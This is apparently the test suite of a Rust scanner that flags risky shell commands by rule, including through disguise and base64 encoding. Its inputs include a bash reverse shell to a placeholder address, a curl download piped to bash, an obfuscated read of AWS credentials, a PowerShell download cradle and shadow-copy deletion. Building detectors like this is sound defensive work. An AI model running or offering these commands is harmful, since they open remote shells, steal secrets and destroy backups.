use super::*;
use crate::options::{Value, parse};
use base64::Engine;
use base64::prelude::BASE64_STANDARD;
use std::collections::BTreeSet;

fn with(fields: &[(&str, &str)]) -> Result<RiskOptions, String> {
    let fields = fields.iter().map(|(name, value)| ((*name).to_owned(), Value::Text((*value).to_owned()))).collect();
    parse::<RiskOptions>("command_risk", &Value::Struct(fields)).map_err(|error| error.to_string())
}

fn names(text: &str) -> Vec<String> {
    Scanner::default().scan(text, &RiskOptions::default()).iter().map(|finding| finding.name().to_owned()).collect()
}

#[test]
fn every_rule_finds_its_sample() {
    let mut missing: BTreeSet<&str> = BUILT_IN.rules.iter().map(|rule| rule.name.as_str()).collect();
    let mut wrong = Vec::new();
    for line in include_str!("samples.txt").lines().filter(|line| !line.starts_with('#')) {
        let (name, text) = line.split_once(": ").unwrap();
        let rule = BUILT_IN.rules.iter().find(|known| known.name == name);
        let by_words = names(text).iter().any(|found| found == name);
        let by_pattern = rule.is_some_and(|rule| rule.find(text).is_some());
        // The words of a rule must be in whatever its pattern matches; some samples match without their disguise only.
        if !by_words {
            wrong.push(format!("{line} (pattern: {by_pattern})"));
        }
        missing.remove(name);
    }
    assert!(wrong.is_empty() && missing.is_empty(), "not found: {wrong:#?}, without a sample: {missing:?}");
}

#[test]
#[rustfmt::skip]
fn harmless() {
    for text in [
        "",
        " ",
        "ls -la /var/log",
        r#""C:\Program Files\Internet Explorer\iexplore.exe" http://example.com"#,
        r"C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule",
        "/usr/bin/python3 /usr/lib/update-notifier/apt_check.py",
        "git commit -m 'rm the nc format function'",
        "rm -rf /var/log/nginx/access.log.1 /tmp/build",
        "rm -rf /opt/app/cache",
        "tar xzf a.tgz -C /opt && cd /opt/a && make install",
        "docker run --rm -v /srv/data:/data postgres:16",
        "chmod 755 /usr/local/bin/tool",
        "chmod 2755 /srv/share",
        "find /srv -perm 644 -name '*.conf'",
        "curl -o out.json https://api.example.com/v1/items",
        "systemctl restart auditd",
        "msiexec /i setup.msi /qn",
        "rundll32 shell32.dll,Control_RunDLL desk.cpl",
        "regsvr32 /s c:\\windows\\system32\\vbscript.dll",
        "certutil -hashfile a.exe SHA256",
        "sc query windefend",
        "net user bob /domain_name_like",
        "reg query HKLM\\SAM",
        "reg export HKLM\\SYSTEM\\CurrentControlSet\\Services\\x x.reg",
        "vssadmin list shadows",
        "wevtutil qe Security /c:5",
        "echo done >> /var/log/messages",
        "ssh -i key bob@192.0.2.1",
        "netsh interface show interface",
        "auditctl -d never,task",
        r#"cmd.exe /c ""C:\diagnostics\WinRun.cmd" -15725""#,
        "nmap",
        "history 20",
        "crontab -l",
        "base64 -d in.b64 > out.bin",
    ] {
        assert_eq!(names(text), [""; 0], "{text:?}");
    }
}

#[test]
fn through_disguise() {
    let found = |text: &str| {
        let options = RiskOptions::default();
        let mut scanner = Scanner::default();
        scanner
            .scan(text, &options)
            .into_iter()
            .map(|finding| (finding.name().to_owned(), finding.matched, finding.decoded))
            .collect::<Vec<_>>()
    };
    assert_eq!(
        found("vss^ad^min del\"\"ete sha'd'ows /all"),
        [("shadow_copy_delete".to_owned(), "vss^ad^min del\"\"ete sha'd'ows".to_owned(), false)]
    );
    assert!(found("c\"\"url -s http://192.0.2.1/x|b'a'sh").iter().any(|(rule, ..)| rule == "download_piped_to_shell"));
    assert!(found("cat$IFS/home/x/.aws/credentials").iter().any(|(rule, ..)| rule == "linux_secret_read"));
    assert!(
        found("I`E`X (New-Object Net.WebClient).'Down'+'loadString'('x')").iter().any(|(rule, ..)| rule == "powershell_download_cradle")
    );
    // Text in UTF-16, twice encoded, and nothing of it in the clear.
    let wide = |text: &str| BASE64_STANDARD.encode(text.encode_utf16().flat_map(u16::to_le_bytes).collect::<Vec<_>>());
    let once = format!("powershell -enc {}", wide("vssadmin delete shadows /all /quiet; exit"));
    assert_eq!(
        found(&once),
        [
            ("shadow_copy_delete".to_owned(), "vssadmin delete shadows".to_owned(), true),
            ("powershell_encoded_command".to_owned(), once.clone(), false),
        ]
    );
    let twice = found(&format!("powershell -enc {}", wide(&once)));
    assert!(twice.iter().any(|(rule, _, decoded)| rule == "shadow_copy_delete" && *decoded));
}

#[test]
fn options() {
    let text = "whoami /all & vssadmin delete shadows & bash -i >& /dev/tcp/192.0.2.1/4444 0>&1";
    let count = |fields: &[(&str, &str)]| {
        let options = with(fields).unwrap();
        Scanner::default().scan(text, &options).iter().map(|finding| finding.name().to_owned()).collect::<Vec<_>>()
    };
    assert_eq!(count(&[]), ["reverse_shell_bash", "shadow_copy_delete", "dev_tcp_connection", "discovery_user", "interactive_shell"]);
    assert_eq!(count(&[("min_severity", "high")]), ["reverse_shell_bash", "shadow_copy_delete"]);
    assert_eq!(count(&[("min_severity", "CRITICAL"), ("platform", "windows")]), ["shadow_copy_delete"]);
    assert_eq!(count(&[("min_severity", "critical"), ("platform", "linux")]), ["reverse_shell_bash"]);
    assert!(with(&[("platform", "mac")]).unwrap_err().contains("'any' or 'windows' or 'linux', got 'mac'"));
    assert!(with(&[("rules", "/nonexistent/x.yaml")]).unwrap_err().contains("names the file '/nonexistent/x.yaml', which cannot be read"));
}

#[test]
fn rules_of_the_user() {
    let path = std::env::temp_dir().join(format!("huntsql-risk-{}.yaml", std::process::id()));
    let path = path.to_str().unwrap();
    let scan = |rules: &str, text: &str| {
        std::fs::write(path, rules).unwrap();
        let options = with(&[("rules", path)])?;
        Ok::<_, String>(
            Scanner::default().scan(text, &options).iter().map(|f| format!("{} {}", f.name(), f.severity().name())).collect::<Vec<_>>(),
        )
    };
    let own = "- rule: ours\n  severity: critical\n  match: 'acme-\\d+'\n- rule: discovery_user\n  severity: high\n  words: [whoami]\n  match: whoami\n";
    assert_eq!(scan(own, "whoami & ACME-7").unwrap(), ["ours critical", "discovery_user high"]);
    let wrong = scan("- rule: ours\n  severity: critical\n  match: 'acme-('\n", "x").unwrap_err();
    assert_eq!(
        wrong,
        format!(
            "command_risk: option 'rules' names the file '{path}', which is wrong: line 3, has the pattern 'acme-(', which is not a regular expression: unclosed group"
        )
    );
    std::fs::remove_file(path).unwrap();
}

#[test]
fn long_and_hostile_texts() {
    let options = RiskOptions { min_severity: Severity::High, ..RiskOptions::default() };
    let mut scanner = Scanner::default();
    let samples = include_str!("samples.txt");
    for unit in [
        "^",
        "`",
        "\"",
        "a\"",
        "a'",
        "'+'",
        "$IFS",
        "–",
        "\\",
        "/dev/tcp/",
        "powershell -e ",
        "{0}{1}",
        "${",
        "%a:~1%",
        "reg add ",
        "A",
        "QUJD ",
        "é",
        "\0",
    ] {
        let text = unit.repeat(LONGEST / unit.len() + 1);
        let found = scanner.scan(&text, &options);
        assert!(found.iter().any(|finding| finding.name() == "text_cut"), "{unit:?}");
    }
    let all = samples.repeat(LONGEST / samples.len() + 1).replace('\n', " ");
    assert!(scanner.scan(&all, &options).len() > 40);
    assert_eq!(scanner.scan(&all, &options).last().map(Finding::name), Some("text_cut"));
    assert!(scanner.scan("whoami /all", &options).is_empty(), "no state between calls");
    let (text, was_cut) = cut("aé", 2);
    assert_eq!((text, was_cut), ("a", true));
}
